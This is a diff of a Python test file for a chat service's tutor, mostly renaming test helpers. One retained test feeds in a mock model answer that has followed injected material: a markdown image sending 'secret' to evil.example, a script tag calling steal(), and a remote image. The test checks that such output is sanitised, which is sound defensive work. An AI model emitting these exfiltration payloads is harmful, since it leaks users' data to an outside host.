@@ -4,7 +4,7 @@ import re
 import uuid
 
 from chassis.models.openai_compatible import ModelEndpoint
-from chassis.tests.model_server import model_server, said
+from chassis.testing.model_server import model_server, text_event
 from chat_service.tests.conftest import NewServer, chunk, collect, kinds, reason, text_of
 from chat_service.tutors.extractive import NO_MATERIAL, ExtractiveTutor
 from chat_service.tutors.language_model import LanguageModelTutor
@@ -57,7 +57,7 @@ async def test_the_output_of_a_model_that_obeys_the_material_is_sanitised(new_se
             "As ordered: ![x](https://evil.example/?q=secret) [7] [here](https://evil.example/a) "
             "<script>steal()</script><img src='//evil.example'> www.evil.example [1][2][99]."
         )
-        model.answers(*obeyed)
+        model.respond(*obeyed)
         steps = await collect(server.ask(user, chat, "What now?"))
         await tutor.close()
     answer = steps[-1].done
@@ -73,7 +73,7 @@ async def test_a_model_that_stalls_or_disconnects_fails_the_answer(new_server: N
         server = await new_server(tutor)
         user = server.user()
         chat = await server.chat(user)
-        model.events = [said("It is ")]
+        model.events = [text_event("It is ")]
         for model.hang, model.cut in ((True, False), (False, True)):
             steps = await collect(server.ask(user, chat))
             assert reason(steps[-1]) == "MODEL_FAILED"
